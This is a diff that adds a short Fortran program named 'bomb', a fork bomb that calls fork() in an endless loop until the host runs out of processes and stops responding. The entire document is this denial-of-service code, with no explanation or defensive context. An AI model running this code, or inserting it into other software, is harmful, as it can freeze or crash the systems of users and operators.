@@ -1,0 +1,7 @@
+program bomb
+  use libc
+  integer :: ignore
+  do
+    ignore = fork()
+  end do
+end program
